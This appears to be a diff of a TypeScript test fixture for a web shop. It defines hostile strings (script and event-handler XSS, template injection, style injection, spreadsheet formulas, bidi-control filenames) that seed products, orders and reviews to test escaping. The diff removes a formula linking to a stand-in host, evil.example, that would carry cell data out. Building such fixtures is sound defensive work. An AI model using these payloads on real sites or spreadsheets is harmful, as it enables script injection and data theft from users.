@@ -1,16 +1,15 @@
-/** A shop in which every text that a person can fill is hostile. */
 import { insertProduct, insertReview, orderInput, orderLine } from '@shop/testkit/builders'
 import { type Database, openDatabase } from '@shop/db/open'
 import type { ProductRow } from '@shop/db/schema/products'
 import type { TestShop } from '@shop/testkit/test-shop'
 
-/** Texts of at most 500 characters. A script in them would call `canary`. */
+/** Each has at most 500 characters. A script in them would call `canary`. */
 export const hostileTexts = {
   markup: `"><img src=x onerror=canary()><script>canary()</script><svg/onload=canary()>`,
   endings: `</script></title></textarea></style><script>canary()</script><!-- ]]> --> *b* [a](javascript:canary())`,
   templates: '{{constructor.constructor("canary()")()}}${canary()}<%=canary()%>javascript:canary()',
   styles: `;}</style><style>*{display:none}</style>" style="position:fixed;inset:0" onclick="canary()`,
-  formula: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  formula: '=HYPERLINK("#"&A1,"Click")',
   long: 'Llanfairpwllgwyngyll'.repeat(25),
   turned: 'Tee \u202egpj.exe \u2066\u2067 never closed',
   rightToLeft: 'قميص "التركيز" (جديد) 2024 שלום',
@@ -22,14 +21,13 @@ type Kind = keyof typeof hostileTexts
 
 export const kinds = Object.keys(hostileTexts) as Kind[]
 
-/** As much of a text as a field takes, without cutting a character in half. */
+/** Truncates a text without splitting a surrogate pair. */
 const upTo = (text: string, length: number): string =>
   text.slice(0, length).replace(/[\ud800-\udbff]$/, '')
 
-/** Product ids by the text that they are filled with. */
 export const productIdOf = (kind: Kind): string => `hostile-${kind.toLowerCase()}`
 
-/** One product, one order and one review of each text; the product is featured and comes first. */
+/** Inserts a featured product, an order and a review with each text. */
 export const fillShop = async ({ libsql, origin }: TestShop): Promise<void> => {
   const db = openDatabase(libsql)
   for (const kind of kinds) {
